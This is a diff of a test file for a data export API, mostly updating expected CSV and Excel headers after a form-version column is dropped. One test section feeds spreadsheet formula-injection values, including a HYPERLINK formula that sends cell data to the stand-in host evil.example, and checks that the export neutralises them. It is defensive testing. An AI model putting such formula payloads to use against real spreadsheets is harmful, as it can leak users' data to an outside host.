@@ -48,13 +48,12 @@ describe('export', () => {
     const text = response.body;
     expect(text.endsWith('\n')).toBe(false);
     // The keys of the first record in the order they were submitted (jsonb alone would give qty first).
-    expect(text.split('\n')[0]).toBe('id,createdAt,configVersion,name,note,tags,qty');
+    expect(text.split('\n')[0]).toBe('id,createdAt,name,note,tags,qty');
     const rows = parse<Record<string, string>>(text, { columns: true });
     expect(rows).toEqual([
       {
         id: first.dataId,
         createdAt: first.data.createdAt,
-        configVersion: '1',
         name: 'Smith, John',
         note: 'say "hi"',
         tags: '["a","b"]',
@@ -63,7 +62,6 @@ describe('export', () => {
       {
         id: second.dataId,
         createdAt: second.data.createdAt,
-        configVersion: '1',
         name: 'Line\nbreak',
         note: 'cr\rhere',
         tags: '',
@@ -83,7 +81,7 @@ describe('export', () => {
     for (const id of [configId, withSchema]) {
       await t.request({ method: 'POST', url: `/api/data/${id}`, token: alice.token, payload });
       const csv = await t.request({ method: 'GET', url: `/api/data/${id}/export?format=csv`, token: admin });
-      expect(csv.body.split('\n')[0]).toBe('id,createdAt,configVersion,name,city,note,qty,tags');
+      expect(csv.body.split('\n')[0]).toBe('id,createdAt,name,city,note,qty,tags');
       const xlsx = await t.request({
         method: 'GET',
         url: `/api/data/${id}/export?format=excel`,
@@ -95,7 +93,6 @@ describe('export', () => {
         undefined,
         'ID',
         'Created at',
-        'Form version',
         'name',
         'city',
         'note',
@@ -126,7 +123,7 @@ describe('export', () => {
       url: `/api/data/${withSchema}/export?format=csv`,
       token: admin,
     });
-    expect(response.body.split('\n')[0]).toBe('id,createdAt,configVersion,name,note,qty,zz');
+    expect(response.body.split('\n')[0]).toBe('id,createdAt,name,note,qty,zz');
     const list = await t.request({ method: 'GET', url: `/api/data/${withSchema}`, token: admin });
     expect(Object.keys(list.json().data[0].data)).toEqual(['name', 'note', 'qty', 'zz']);
   });
@@ -137,7 +134,7 @@ describe('export', () => {
     expect(empty.body).toBe('');
     await submit({ a: 1, b: 2, c: 3 });
     const chosen = await download('?format=csv&columns=c,a');
-    expect(chosen.body.split('\n')[0]).toBe('id,createdAt,configVersion,c,a');
+    expect(chosen.body.split('\n')[0]).toBe('id,createdAt,c,a');
     expect(chosen.body.split('\n')[1]).toMatch(/,3,1$/);
   });
 
@@ -172,16 +169,8 @@ describe('export', () => {
     await workbook.xlsx.load(response.rawPayload as unknown as ArrayBuffer);
     expect(workbook.worksheets.map((s) => s.name)).toEqual(['Data']);
     const sheet = workbook.getWorksheet('Data')!;
-    expect(sheet.getRow(1).values).toEqual([
-      undefined,
-      'Azonosító',
-      'Létrehozva',
-      'Űrlapverzió',
-      'name',
-      'qty',
-      'meta',
-    ]);
-    for (let column = 1; column <= 6; column++) {
+    expect(sheet.getRow(1).values).toEqual([undefined, 'Azonosító', 'Létrehozva', 'name', 'qty', 'meta']);
+    for (let column = 1; column <= 5; column++) {
       const cell = sheet.getRow(1).getCell(column);
       expect(cell.font?.bold).toBe(true);
       expect(cell.fill).toMatchObject({ type: 'pattern', pattern: 'solid', fgColor: { argb: 'FFD9D9D9' } });
@@ -190,15 +179,14 @@ describe('export', () => {
     const row = sheet.getRow(2);
     expect(row.getCell(1).value).toBe(first.dataId);
     expect(row.getCell(2).value).toEqual(new Date(first.data.createdAt));
-    expect(row.getCell(3).value).toBe(1);
-    expect(row.getCell(4).value).toBe('Anna');
-    expect(row.getCell(5).value).toBe(2);
-    expect(row.getCell(6).value).toBe('{"x":1}');
-    expect(sheet.getRow(3).getCell(5).value).toBeNull();
+    expect(row.getCell(3).value).toBe('Anna');
+    expect(row.getCell(4).value).toBe(2);
+    expect(row.getCell(5).value).toBe('{"x":1}');
+    expect(sheet.getRow(3).getCell(4).value).toBeNull();
     // Data cells carry their column's style: a date format for createdAt, none elsewhere.
     for (const dataRow of [row, sheet.getRow(3)]) {
       expect(dataRow.getCell(2).numFmt).toBe('yyyy-mm-dd hh:mm:ss');
-      for (const column of [1, 3, 4, 5, 6]) {
+      for (const column of [1, 3, 4, 5]) {
         expect(dataRow.getCell(column).numFmt).toBeUndefined();
         expect(dataRow.getCell(column).font).toBeUndefined();
       }
@@ -209,7 +197,6 @@ describe('export', () => {
       undefined,
       'ID',
       'Created at',
-      'Form version',
       'name',
       'qty',
       'meta',
@@ -234,7 +221,6 @@ describe('export', () => {
       undefined,
       'ID',
       'Created at',
-      'Form version',
       'name',
       'ctl',
       'key',
@@ -243,14 +229,13 @@ describe('export', () => {
       'obj',
     ]);
     const row = sheet.getRow(2);
-    expect(row.getCell(3).value).toBe(1);
-    expect(row.getCell(4).value).toBe('abc');
-    expect(row.getCell(5).value).toBe('xy\tz\n');
-    expect(row.getCell(6).value).toBe('v');
-    expect(row.getCell(7).value).toBe('é'.repeat(32_767));
+    expect(row.getCell(3).value).toBe('abc');
+    expect(row.getCell(4).value).toBe('xy\tz\n');
+    expect(row.getCell(5).value).toBe('v');
+    expect(row.getCell(6).value).toBe('é'.repeat(32_767));
     // 32,767 would split the last emoji's surrogate pair: the cut keeps whole characters.
-    expect(row.getCell(8).value).toBe('😀'.repeat(16_383));
-    expect(row.getCell(9).value).toBe('{"t":""}');
+    expect(row.getCell(7).value).toBe('😀'.repeat(16_383));
+    expect(row.getCell(8).value).toBe('{"t":""}');
     // The stored record and the other formats keep every character.
     const json = (await download('?format=json')).json();
     expect(json[0].data.name).toBe('a\uFFFEb\uFFFFc');
@@ -412,8 +397,8 @@ describe('export: formula cells and system-column names', () => {
         const response = await download('csv');
         expect(response.statusCode).toBe(200);
         expect(response.body).toBe(
-          `id,createdAt,configVersion,link,plus,at,minus,negative,tab,cr,plain,${q}=evil,data.id,data.createdAt\n` +
-            `${saved.dataId},${saved.data.createdAt},1,"${q}=HYPERLINK(""http://evil.example/?d=""&A2,""x"")",` +
+          `id,createdAt,link,plus,at,minus,negative,tab,cr,plain,${q}=evil,data.id,data.createdAt\n` +
+            `${saved.dataId},${saved.data.createdAt},"${q}=HYPERLINK(""http://evil.example/?d=""&A2,""x"")",` +
             `${q}+1,${q}@SUM(A1:A2),${q}-x,-5,${q}\tx,"${q}\rx",a-b=c,v,fake-id,fake-date`,
         );
         // A reader keyed by header finds the record's own id and time under id and createdAt.
@@ -421,7 +406,6 @@ describe('export: formula cells and system-column names', () => {
         expect(row).toMatchObject({
           id: saved.dataId,
           createdAt: saved.data.createdAt,
-          configVersion: '1',
           'data.id': 'fake-id',
         });
       });
@@ -436,7 +420,6 @@ describe('export: formula cells and system-column names', () => {
           undefined,
           'ID',
           'Created at',
-          'Form version',
           'link',
           'plus',
           'at',
@@ -453,7 +436,6 @@ describe('export: formula cells and system-column names', () => {
           undefined,
           saved.dataId,
           new Date(saved.data.createdAt),
-          1,
           `${q}${HYPERLINK}`,
           `${q}+1`,
           `${q}@SUM(A1:A2)`,
